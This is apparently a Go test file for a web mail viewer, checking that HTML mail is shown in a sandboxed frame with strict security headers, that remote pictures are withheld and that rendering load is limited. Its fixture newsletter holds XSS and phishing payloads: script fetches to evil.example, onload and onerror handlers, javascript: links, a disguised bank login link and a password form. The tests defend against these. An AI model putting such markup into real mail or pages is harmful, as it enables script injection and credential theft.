package web_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/postroom-go/postroom/examples/postroomd/web"
	"github.com/postroom-go/postroom/examples/postroomd/web/access"
	"github.com/postroom-go/postroom/gmail/gmailtest"
	"github.com/postroom-go/postroom/gmail/gmailtest/sample"
	"github.com/postroom-go/postroom/internal/browsertest"
	"github.com/postroom-go/postroom/mime/safehtml"
)

// A newsletter has what such mail has, and what attacks have.
const newsletter = `<html><head><style>@import "http://evil.example/a.css";</style><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body bgcolor="#f4f4f2" onload="alert(1)">
<script>parent.document.title = "taken"; fetch("http://evil.example/")</script>
<table width="600" align="center" cellpadding="12" bgcolor="#ffffff" background="http://evil.example/b.png">
<tr><td colspan="2" style="border-bottom: 2px solid #2457c0">
<h1 style="color:#2457c0;margin:0">News of the ferry house</h1></td></tr>
<tr><td width="60%"><p>The <b>new sign</b> hangs. <i>Come and see it.</i></p><ul><li>Saturday<li>Sunday</ul></td>
<td style="background:url(http://evil.example/c.png)">
<img src="http://evil.example/sign.png" alt="The sign" onerror="alert(2)">
<img src="http://evil.example/t.gif" width="1" height="1"></td></tr>
<tr><td colspan="2"><p>
<a href="https://ferry.example/visit" style="padding:8px 16px;background:#2457c0;color:#ffffff">Visit us</a>
<p>Or log in at <a href="https://evil.example/login">https://bank.example/</a>, or
<a href="javascript:alert(3)">here</a>.
<form action="http://evil.example/"><input name="password"><button>Send</button></form>
<svg onload="alert(4)"><image href="http://evil.example/d.png"></svg><iframe src="http://evil.example/"></iframe>
</td></tr></table></body></html>`

func rawNewsletter() []byte {
	return []byte("From: Ferry House <news@ferry.example>\r\nTo: " + sample.Owner + "\r\n" +
		"Subject: News <of> the house\r\n" +
		"Message-ID: <news@ferry.example>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		strings.ReplaceAll(newsletter, "\n", "\r\n") + "\r\n")
}

// A person looks at a mail as its sender formatted it, beside its text: nothing of it runs, and nobody is asked.
func TestAMessageIsShownAsHTML(t *testing.T) {
	w := newWorld(t)
	b := browsertest.Browse(t)
	path := "mail/" + sample.Owner + "/" + w.take([][]byte{rawNewsletter()})[0]
	for width, scheme := range map[int64]string{1280: "light", 390: "dark"} {
		b.Size(width, 844)
		b.Scheme(scheme)
		b.Open(w.url + path)
		b.Until(ready)
		require.Zero(t, browsertest.Eval[int](b, `document.querySelectorAll("iframe").length`), "text comes first")
		b.TabTo(`#message .tabs a:not([aria-current])`)
		b.Press("\r")
		b.Until(`location.search === "?view=html" && !!document.querySelector("iframe.mail") && ` + ready)
		require.Equal(t, safehtml.Sandbox, browsertest.Eval[string](b, `document.querySelector("iframe").sandbox.value`))
		require.Zero(t, browsertest.Eval[int](b, `document.querySelectorAll("#message pre.mail").length`))
		require.True(t, browsertest.Eval[bool](b, `document.querySelector("iframe").contentDocument === null`), "it is apart")
	}
	looks(b, w.url, map[string]string{"message-html": path + "?view=html"})

	b.Size(390, 844)
	b.Open(w.url + path + "/html")
	require.Equal(t, "The new sign hangs. Come and see it.",
		browsertest.Eval[string](b, `document.querySelector("td p").innerText`))
	text := browsertest.Eval[string](b, `document.body.innerText`)
	require.Contains(t, text, "2 pictures are not shown")
	require.Contains(t, text, "[The sign]")
	require.Contains(t, text, "https://bank.example/ [evil.example], or here.")
	require.Equal(t, "rgb(36, 87, 192)",
		browsertest.Eval[string](b, `getComputedStyle(document.querySelector("h1")).color`))
	b.Picture("message-html-document")
	require.Empty(t, b.Elsewhere(w.url))
	b.Quiet() // nothing was even tried, and refused
}

// The policies of the page and of the frame are their own.
func TestTheFrameOfAMailHasItsOwnPolicy(t *testing.T) {
	w := newWorld(t)
	ids := w.take([][]byte{rawNewsletter(),
		[]byte("From: ann@example.org\r\nTo: " + sample.Owner + "\r\nSubject: text\r\n\r\nx\r\n")})
	path := "mail/" + sample.Owner + "/"
	html, plain := path+ids[0], path+ids[1]
	if w.get(html+"/html").status != http.StatusOK {
		html, plain = plain, html
	}
	frame := w.get(html + "/html")
	require.Equal(t, http.StatusOK, frame.status)
	require.Equal(t, safehtml.Policy, frame.header.Get("Content-Security-Policy"))
	require.Equal(t, "SAMEORIGIN", frame.header.Get("X-Frame-Options"))
	require.Equal(t, "no-referrer", frame.header.Get("Referrer-Policy"))
	require.Equal(t, "off", frame.header.Get("X-DNS-Prefetch-Control"))
	require.NotContains(t, frame.body, "script")
	for path, frames := range map[string]bool{html: false, html + "?view=html": true, plain + "?view=html": false} {
		page := w.get(path)
		require.Equal(t, frames, strings.Contains(page.header.Get("Content-Security-Policy"), "frame-src 'self'"), path)
		require.Equal(t, frames, strings.Contains(page.body, "<iframe"), path)
		require.Contains(t, page.header.Get("Content-Security-Policy"), "frame-ancestors 'none'")
	}
	require.NotContains(t, w.get(plain).body, "view=html", "there is nothing to choose")
	for missing, says := range map[string][2]string{plain + "/html": {"has no HTML", plain},
		path + "none/html": {"is not here", "mail"}} {
		answer := w.get(missing)
		require.Equal(t, http.StatusNotFound, answer.status)
		require.Equal(t, "SAMEORIGIN", answer.header.Get("X-Frame-Options"), "the frame says why it is empty")
		require.Contains(t, answer.header.Get("Content-Security-Policy"), "default-src 'none'; ")
		require.Contains(t, answer.header.Get("Content-Security-Policy"), "frame-ancestors 'self'")
		require.Contains(t, answer.body, says[0])
		require.Equal(t, says[1], answer.find(t, `<a href="[./]*([^"]+)" target="_top">`), "it leads back")
	}
}

// Who has opened the HTML of a mail by itself, which is not there, goes back by a click.
func TestAMailWithoutHTMLIsNoDeadEnd(t *testing.T) {
	w := newWorld(t)
	id := w.take([][]byte{[]byte("From: ann@example.org\r\nTo: " + sample.Owner + "\r\nSubject: text\r\n\r\nx\r\n")})[0]
	b := browsertest.Browse(t)
	b.Open(w.url + "mail/" + sample.Owner + "/" + id + "/html")
	browsertest.Eval[any](b, `document.querySelector("a").click()`)
	b.Until(`!!document.querySelector("#message") && ` + ready)
}

// The pictures that come with a mail are shown. If Gmail does not answer, the rest of it is.
func TestPicturesOfAMailAreShown(t *testing.T) {
	w := newWorld(t)
	b := browsertest.Browse(t)
	path := w.get("mail?q=from:hello@studio.example+subject:sign").find(t, `<a class="open" href="\./(mail/[^"]+)"`)
	b.Open(w.url + path + "/html")
	require.Equal(t, 24, browsertest.Eval[int](b, `document.querySelector("img[alt=sign]").naturalWidth`))
	b.Quiet()
	require.NotContains(t, w.get(path+"/html").body, "not shown")
	account, err := w.Mail.AccountByEmail(t.Context(), sample.Owner)
	require.NoError(t, err)
	require.NoError(t, w.PauseMailbox(t.Context(), account.ID, "ada", ""))
	require.Contains(t, w.get(path+"/html").body, "1 picture is not shown", "nothing asks Gmail for a paused mailbox")
	require.NoError(t, w.ResumeMailbox(t.Context(), account.ID, "ada"))
	require.NotContains(t, w.get(path+"/html").body, "not shown")
	w.Server.Fault(gmailtest.Fault{Method: "messages.get", Status: http.StatusNotFound})
	without := w.get(path + "/html").body
	require.Contains(t, without, "1 picture is not shown")
	require.Contains(t, without, "[sign]")
}

// Mails that are costly to show do not take the whole machine: few are made safe at once.
func TestFewMailsAreShownAtOnce(t *testing.T) {
	w := newWorld(t)
	path := "/mail/" + sample.Owner + "/" + w.take([][]byte{rawNewsletter()})[0] + "/html"
	h, err := web.New(w.App)
	require.NoError(t, err)
	t.Cleanup(h.Close)
	pages := access.Local(h)
	letGo := h.HoldFrames()
	impatient, cancel := context.WithTimeout(t.Context(), 500*time.Millisecond)
	defer cancel()
	answer := httptest.NewRecorder()
	pages.ServeHTTP(answer, httptest.NewRequestWithContext(impatient, http.MethodGet, path, http.NoBody))
	require.Empty(t, answer.Body.String(), "it waits")
	letGo()
	answer = httptest.NewRecorder()
	pages.ServeHTTP(answer, httptest.NewRequestWithContext(t.Context(), http.MethodGet, path, http.NoBody))
	require.Contains(t, answer.Body.String(), "ferry house")
}
